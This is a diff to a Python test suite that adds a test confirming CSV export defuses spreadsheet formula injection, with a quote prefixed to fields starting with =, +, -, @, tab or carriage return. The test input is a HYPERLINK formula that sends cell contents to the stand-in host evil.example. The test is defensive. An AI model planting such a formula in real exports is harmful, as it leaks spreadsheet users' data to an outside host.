@@ -424,6 +424,16 @@ class TestLayouts:
             {"user": "c", "duration_s": "0", "bytes_up": "5"},
         ] == list(csv.DictReader(io.StringIO(text)))
 
+    @pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r"])
+    def test_csv_holds_no_formula(self, begin: str) -> None:
+        """Users choose ids of kernels, and spreadsheets compute what begins so; numbers stay numbers."""
+        text = begin + 'HYPERLINK("https://evil.example/?"&A1)'
+        rows = ({"user": text, "duration_s": -5.0, "bytes_up": None},)
+        (row,) = csv.DictReader(io.StringIO("\n".join(lines(rows, self.COLUMNS, Format.CSV)), newline=""))
+        assert ("'" + text, "-5.0", "") == (row["user"], row["duration_s"], row["bytes_up"])
+        (whole,) = json.loads("".join(lines(rows, self.COLUMNS, Format.JSON)))
+        assert text == whole["user"]
+
     def test_durations(self) -> None:
         """Seconds are rounded before minutes are taken, and days are hours."""
         assert ["0:00:00", "0:01:00", "0:59:59", "50:00:00"] == [
